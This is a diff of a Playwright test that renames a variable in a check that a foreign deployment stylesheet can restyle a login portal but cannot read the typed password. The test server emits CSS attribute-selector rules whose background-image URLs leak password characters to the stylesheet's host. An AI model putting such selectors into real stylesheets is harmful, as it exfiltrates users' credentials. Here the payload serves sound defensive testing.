@@ -7,9 +7,9 @@ const signs = [...'partnerPol-2026']
 test("a deployment's stylesheet of another host changes the tokens, and reads no secret (P35)", async ({
   page,
 }) => {
-  const asked: string[] = []
+  const requests: string[] = []
   const styles = await serve(({ url, headers }, response) => {
-    asked.push(String(url))
+    requests.push(String(url))
     const leaks = signs.map(
       (sign, at) =>
         `input[value$="${sign}"] { background-image: url(http://${headers.host}/${at}) }`,
@@ -30,18 +30,18 @@ test("a deployment's stylesheet of another host changes the tokens, and reads no
   await page.goto(`${portal.address}/login`)
   await typesLogin()
   await page.getByRole('textbox', { name: 'Password' }).pressSequentially('Portal-2026')
-  expect(asked).toEqual([])
+  expect(requests).toEqual([])
   await page.getByRole('button', { name: 'SIGN IN' }).click()
   await expect(page).toHaveURL(`${portal.address}/`)
   await expect(page.locator('body')).toHaveCSS('color', 'rgb(1, 2, 3)')
-  expect(new Set(asked)).toEqual(new Set(['/own.css']))
-  asked.length = 0
+  expect(new Set(requests)).toEqual(new Set(['/own.css']))
+  requests.length = 0
   // Another document, which has loaded nothing of the sheet.
   await page.getByRole('button', { name: 'Konto: partner' }).click()
   await page.getByRole('menuitem', { name: 'Wyloguj się' }).click()
   await expect(page).toHaveURL(/\/login/)
   await typesLogin()
-  expect(asked).toEqual([])
+  expect(requests).toEqual([])
   expect(said).toEqual([])
   await portal.stop()
   await styles.stop()
